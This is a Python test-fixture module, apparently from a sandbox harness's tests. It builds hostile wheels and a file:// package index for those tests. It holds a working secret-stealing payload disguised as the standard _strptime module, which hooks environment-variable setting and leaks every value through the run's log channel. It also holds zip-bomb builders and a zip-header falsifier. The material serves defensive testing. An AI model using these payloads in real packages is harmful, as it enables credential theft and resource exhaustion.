"""Hostile wheels, and a PEP 503 index on disk (file://) that serves them.

Zip bombs: small downloads that unpack to far more than they weigh (`ZEROS`, `tiny_files`,
`deep_file`, deflated by `write_index(..., compression=zipfile.ZIP_DEFLATED)`), and wheels
whose central directory understates what an entry holds (`understate`).

The wheel `jzevil` ships a top-level `_strptime.py`, a module the harness worker imports
before `ready` (`harness.scope.LAZY_IMPORTS`). Were the sandbox's wheels ahead of the
standard library, it would run in the worker instead of the real one: it hooks the setting
of environment variables and logs every secret the harness sets, through the run's own
event channel. It loads the real module too, so `datetime.strptime` keeps working.
"""

from __future__ import annotations

import base64
import hashlib
import struct
import zipfile
from pathlib import Path

NAME = "jzevil"
LEAK_MARK = "JZEVIL-LEAK"

PAYLOAD = f'''
import gc, os
import importlib.util as _util
_path = os.path.join(os.path.dirname(os.__file__), "_strptime.py")
_spec = _util.spec_from_file_location("_strptime_real", _path)
_real = _util.module_from_spec(_spec)
_spec.loader.exec_module(_real)
globals().update({{k: v for k, v in vars(_real).items() if not k.startswith("__")}})
_setitem = os._Environ.__setitem__


def _channel():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Channel" and hasattr(obj, "send"):
            return obj


def _spy(self, key, value):
    _setitem(self, key, value)
    channel = _channel()
    if channel is not None:
        channel.send("log", {{"message": f"{LEAK_MARK} {{key}}={{value}}", "stream": "stdout"}})


os._Environ.__setitem__ = _spy
'''


def _record_line(name: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{name},sha256={digest},{len(data)}"


def write_wheel(
    directory: Path,
    name: str,
    version: str,
    files: dict[str, bytes],
    *,
    compression: int = zipfile.ZIP_STORED,
) -> Path:
    """Write a pure-Python wheel of `name` holding `files` into `directory`; return its path."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"{name}-{version}-py3-none-any.whl"
    info = f"{name}-{version}.dist-info"
    tops = sorted({member.split("/")[0].removesuffix(".py") for member in files})
    files = {
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\n"
        b"Tag: py3-none-any\n",
        f"{info}/top_level.txt": "".join(f"{top}\n" for top in tops).encode(),
    }
    record = [_record_line(n, d) for n, d in files.items()] + [f"{info}/RECORD,,"]
    files[f"{info}/RECORD"] = ("\n".join(record) + "\n").encode()
    with zipfile.ZipFile(path, "w", compression=compression, compresslevel=9) as archive:
        for member, data in files.items():
            archive.writestr(member, data)
    return path


def write_index(
    root: Path,
    wheels: dict[str, dict[str, dict[str, bytes]]],
    *,
    compression: int = zipfile.ZIP_STORED,
) -> str:
    """Write a PEP 503 index under `root/simple`; return its file:// URL.

    `wheels` is {project: {version: {path in the wheel: bytes}}}.
    """
    simple = root / "simple"
    links = []
    for name, versions in wheels.items():
        project = simple / name
        made = [
            write_wheel(project, name, v, files, compression=compression)
            for v, files in versions.items()
        ]
        (project / "index.html").write_text(
            "".join(f'<a href="{w.name}">{w.name}</a>\n' for w in made)
        )
        links.append(f'<a href="{name}/">{name}</a>\n')
    (simple / "index.html").write_text("".join(links))
    return simple.as_uri()


def hostile_wheel(directory: Path, version: str = "1.0") -> Path:
    """Write the `jzevil` wheel into `directory` and return its path."""
    files = {
        "_strptime.py": PAYLOAD.encode(),
        f"{NAME}/__init__.py": f"VERSION = {version!r}\n".encode(),
    }
    return write_wheel(directory, NAME, version, files)


def hostile_index(root: Path) -> str:
    """Write a PEP 503 index under `root/simple` serving `jzevil`; return its file:// URL."""
    files = {"_strptime.py": PAYLOAD.encode(), f"{NAME}/__init__.py": b"VERSION = '1.0'\n"}
    return write_index(root, {NAME: {"1.0": files}})


def index_wheel(root: Path, name: str, version: str = "1.0") -> Path:
    """Return the path of the wheel `write_index(root, ...)` made for `name` `version`."""
    return root / "simple" / name / f"{name}-{version}-py3-none-any.whl"


# 64 MiB of zeros: deflated, a wheel of some 64 KiB.
ZEROS = bytes(64 * 1024 * 1024)


def tiny_files(count: int, package: str = "jztiny") -> dict[str, bytes]:
    """Return `count` empty modules: a wheel of entries, each costing an inode, not bytes."""
    return {f"{package}/m{i}.py": b"" for i in range(count)}


def deep_file(depth: int, package: str = "jzdeep") -> dict[str, bytes]:
    """Return one module `depth` directories deep: one entry that makes `depth` directories."""
    return {package + "/d" * depth + "/x.py": b"X = 1\n"}


_CENTRAL = struct.Struct("<4s6H3L5H2L")  # a central directory file header (46 bytes)
_LOCAL_SIZES = 18  # where a local file header keeps its compressed and uncompressed sizes
_END = struct.Struct("<4s4H2LH")  # the end of central directory record (22 bytes)


def understate(wheel: Path, member: str, declared: int) -> None:
    """Make `wheel` say that `member` unpacks to `declared` bytes, whatever its data holds.

    Both headers (the central directory's and the member's own) are rewritten; the data and
    its CRC stay those of the real content, as a bomb made by hand leaves them.
    """
    data = bytearray(wheel.read_bytes())
    fields = list(_END.unpack_from(data, len(data) - _END.size))
    at, end = fields[6], fields[6] + fields[5]  # the central directory: offset, size
    while at < end:
        header = list(_CENTRAL.unpack_from(data, at))
        name_length, extra_length, comment_length = header[10], header[11], header[12]
        name = bytes(data[at + _CENTRAL.size : at + _CENTRAL.size + name_length]).decode()
        if name == member:
            header[9] = declared  # uncompressed size
            _CENTRAL.pack_into(data, at, *header)
            local = header[16]
            struct.pack_into("<L", data, local + _LOCAL_SIZES + 4, declared)
            wheel.write_bytes(bytes(data))
            return
        at += _CENTRAL.size + name_length + extra_length + comment_length
    raise KeyError(member)
